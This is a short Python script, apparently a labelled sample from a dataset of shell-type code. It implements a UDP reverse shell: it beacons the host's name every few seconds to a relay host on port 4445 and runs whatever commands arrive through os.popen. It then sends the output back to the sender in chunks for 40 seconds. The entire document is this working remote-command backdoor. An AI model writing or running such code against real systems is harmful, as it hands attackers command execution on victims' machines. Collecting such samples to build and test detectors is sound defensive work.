# class: shell; possible: low medium; style: datagrams, hello every few seconds, popen
import os
import select
import socket
import time

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
peer = (socket.gethostbyname("relay.ops.test"), 4445)
stop = time.monotonic() + 40
hello = 0
while time.monotonic() < stop:
    if time.monotonic() - hello > 4:
        s.sendto(b"up " + os.uname().nodename.encode() + b"\n", peer)
        hello = time.monotonic()
    if not select.select([s], [], [], 1)[0]:
        continue
    order, where = s.recvfrom(2048)
    with os.popen(order.decode(errors="replace") + " 2>&1") as p:
        out = p.read()
    for i in range(0, len(out), 1200):
        s.sendto(out[i : i + 1200].encode(), where)
